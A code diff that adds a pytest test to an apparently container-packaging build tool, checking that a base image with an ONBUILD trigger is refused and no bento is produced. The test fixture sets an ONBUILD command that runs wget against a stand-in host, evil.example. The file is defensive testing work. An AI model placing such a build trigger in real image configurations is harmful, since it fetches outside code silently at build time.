@@ -16,13 +16,24 @@ from typing import Any
 
 import pytest
 
+from cpack_build.fetch.http import Sources
+from cpack_build.fetch.mirrors import Mirrors
 from cpack_build.fetch.store import Store
+from cpack_build.image.build import build
+from cpack_build.image.gather import Places, gather
+from cpack_build.lock.schema import BaseImage
+from cpack_build.oci.layout import write_layout
+from cpack_build.oci.push import push
+from cpack_build.oci.reference import LayoutName, parse_reference
+from cpack_build.oci.sources import open_source
 from tests import need
 from tests.asking import ask_service, pixels, png, until_ready
 from tests.cli.calling import Caller
 from tests.deploy.bentohome import bento_home
 from tests.engines import Docker, Registry, free_port
 from tests.example import Example, make_example
+from tests.image.small import CODE, DEBS, make_parts
+from tests.oci.images import image_of
 from tests.restore.images import MODEL, WEIGHTS, World
 
 pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")  # BentoML uses what others call old
@@ -113,6 +124,30 @@ def test_layers_that_a_dockerfile_cannot_unpack_are_made_plain(
     plain = call("bento", f"oci:{world.layout}", "--name", "packed", "--json").document
     assert done.document["tag"] == plain["tag"], "the same image, however its layers came"
     assert call("bento", target, "--json").document["thin"]
+
+
+def test_a_base_that_does_something_by_itself_is_no_beginning_of_a_bento(
+    call: Caller, home: Path, registry: Registry, tmp_path: Path
+) -> None:
+    """The image that we made of it does nothing by itself, and does not tell."""
+    lock = make_parts(tmp_path, models=[100])
+    config = {"OnBuild": ["RUN wget evil.example"]}
+    layers = open_source(LayoutName(tmp_path / "base.oci")).layers(lock.platform)
+    base = image_of(layers, config=config)
+    origin = f"{registry.host}/bases/eager"
+    push(base, [parse_reference(f"{origin}:1")])
+    store = Store(tmp_path / "store")
+    places = Places(base=origin, models=[str(tmp_path / "models")], find_links=[str(tmp_path / "wheels")])
+    sources = Sources(Mirrors({CODE: f"{tmp_path}/", DEBS: f"{tmp_path}/"}))
+    pinned = lock.model_copy(update={"base": BaseImage(reference=f"{origin}:1", digest=base.digest)})
+    documents = {"snapshot.json": b"{}", "workflow_api.json": b"{}"}
+    materials = gather(pinned, documents=documents, places=places, store=store, sources=sources)
+    with build(pinned, materials, store=store) as image:
+        write_layout(image, tmp_path / "image.oci")
+    done = call("bento", f"oci:{tmp_path}/image.oci")
+    assert done.code == 8, done.err
+    assert "ONBUILD" in done.err
+    assert not (home / "bentos").exists() or not list((home / "bentos").iterdir())
 
 
 def test_a_base_that_removes_files_is_refused_before_anything_is_made(home: Path, world: World) -> None:
